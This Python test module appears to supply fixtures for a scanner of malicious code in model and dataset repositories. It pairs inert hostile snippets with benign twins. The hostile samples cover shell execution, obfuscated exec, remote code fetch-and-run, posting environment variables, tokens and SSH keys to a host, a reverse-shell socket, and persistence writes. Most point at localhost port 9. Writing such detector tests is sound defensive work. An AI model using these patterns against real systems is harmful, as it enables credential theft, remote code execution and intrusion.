"""Programs and texts of repositories: inert payloads (`echo hanse-test`, port 9 of this host) and their benign twins."""

from __future__ import annotations

from tests.samples.base import Family, Sample

ECHO = "echo hanse-test"


def _code(*programs: str, path: str = "modeling_x.py") -> tuple[Sample, ...]:
    return tuple(Sample(path, program.encode()) for program in programs)


_MODEL = """import torch
from torch import nn
from transformers import PreTrainedModel

class Model(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.layer = nn.Linear(2, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.layer(x).softmax(-1)
"""
_DATASET = """import csv
import datasets

URL = "https://example.org/data.csv"

class Data(datasets.GeneratorBasedBuilder):
    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features({"text": datasets.Value("string")}))

    def _split_generators(self, dl_manager):
        path = dl_manager.download_and_extract(URL)
        return [datasets.SplitGenerator(name="train", gen_kwargs={"path": path})]

    def _generate_examples(self, path):
        with open(path, encoding="utf-8") as file:
            yield from enumerate(csv.DictReader(file))
"""

PROCESS = Family(
    "python-process",
    _code(
        f'import os\nos.system("{ECHO}")\n',
        f'import subprocess\nclass M:\n    def __init__(self):\n        subprocess.Popen("{ECHO}", shell=True)\n',
        f'from os import system as s\ndef go():\n    s("{ECHO}")\ngo()\n',
        f'__import__("os").system("{ECHO}")\n',
        f'x = lambda: __import__("os").system("{ECHO}")\nx()\n',
        f'import importlib\nimportlib.import_module("os").popen("{ECHO}").read()\n',
        f'import threading, os\nthreading.Thread(target=os.system, args=("{ECHO}",)).start()\n',
        f'import os\nlist(map(os.system, ["{ECHO}"]))\n',
        f'import os, atexit\natexit.register(os.system, "{ECHO}")\n',
        f'from functools import partial\nimport os\npartial(os.system, "{ECHO}")()\n',
        f'import sys, subprocess\nsubprocess.run([sys.executable, "-c", "import os; os.system({ECHO!r})"])\n',
        f'# a comment\rimport os\ros.system("{ECHO}")\r',
        'import os\nos.system("curl http://127.0.0.1:9/x | sh")\n',
        f'import os\nf"{{os.system({ECHO!r})}}"\n',
        f"import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, m):\n"
        f'        os.system("{ECHO}")\n',
    ),
    _code(
        _MODEL,
        'import subprocess\nVERSION = subprocess.check_output(["nvcc", "--version"]).decode()\n',
        'import subprocess\ndef head():\n    return subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True)\n',
        'import subprocess\ndef convert(path):\n    subprocess.run(["sox", path, "out.wav"], check=True)\n',
    ),
)

HIDDEN = Family(
    "python-hidden",
    _code(
        'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
        'import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(b"eJwL"))))\n',
        'exec("".join(chr(c ^ 1) for c in [110, 114]))\n',
        'import codecs\nexec(codecs.decode("cevag(1)", "rot13"))\n',
        f'getattr(__import__("o" + "s"), "sys" + "tem")("{ECHO}")\n',
        'import builtins\ne = getattr(builtins, "ex" + "ec")\ne("print(1)")\n',
        'globals()["__builtins__"]["ev" + "al"]("1")\n',
        'import subprocess as sp\nsp.run(bytes.fromhex("6563686f").decode(), shell=True)\n',
        'import pickle, base64\npickle.loads(base64.b64decode("gASVAAAA"))\n',
        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, 0x40)\n",
    ),
    _code(
        "import base64, io\ndef image(text):\n    return io.BytesIO(base64.b64decode(text))\n",
        'from collections import namedtuple\nPoint = namedtuple("Point", "x y")\nname = "".join(["a", "b"])\n',
        "import json, zlib\ndef read(data):\n    return json.loads(zlib.decompress(data))\n",
    ),
)

FETCHED = Family(
    "python-fetched",
    _code(
        'import urllib.request\nexec(urllib.request.urlopen("http://127.0.0.1:9/x").read())\n',
        'import requests\nr = requests.get("http://127.0.0.1:9/x")\ncode = r.text\n'
        'def f(c):\n    exec(compile(c, "x", "exec"))\nf(code)\n',
        'import urllib.request, os\nurllib.request.urlretrieve("http://127.0.0.1:9/x", "/tmp/x")\nos.system("/tmp/x")\n',
        'import requests, subprocess\np = "/tmp/h.bin"\nopen(p, "wb").write(requests.get("http://127.0.0.1:9/").content)\n'
        "subprocess.run([p])\n",
        'import pickle, requests\nSTATE = pickle.loads(requests.get("http://127.0.0.1:9/").content)\n',
    ),
    _code(
        _DATASET,
        "import requests\ndef page(url):\n    return requests.get(url, timeout=10).json()\n",
        'import torch\ndef load(path):\n    return torch.load(path, map_location="cpu")\n',
        path="data.py",
    ),
)

EXFILTRATION = Family(
    "python-exfiltration",
    _code(
        'import os, requests, json\nrequests.post("http://127.0.0.1:9/", data=json.dumps(dict(os.environ)))\n',
        'import os, requests\ntoken = os.environ.get("HF_TOKEN")\nrequests.get("http://127.0.0.1:9/?t=" + token)\n',
        'import requests\nrequests.post("http://127.0.0.1:9/", data=open("/home/user/.ssh/id_rsa").read())\n',
        'import socket, subprocess, os\ns = socket.socket()\ns.connect(("127.0.0.1", 9))\nos.dup2(s.fileno(), 0)\n',
        'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("echo hanse-test")\n',
        'from pathlib import Path\n(Path.home() / ".ssh" / "authorized_keys").write_text("x")\n',
    ),
    _code(
        'import os, requests\ndef ask(text):\n    head = {"Authorization": "Bearer " + os.environ["API_KEY"]}\n'
        '    return requests.post("https://example.org/v1", json={"text": text}, headers=head)\n',
        'import os\nDEBUG = os.environ.get("DEBUG", "0") == "1"\nCACHE = os.path.expanduser("~/.cache/model")\n',
    ),
)

FAMILIES = {one.name: one for one in (PROCESS, HIDDEN, FETCHED, EXFILTRATION)}
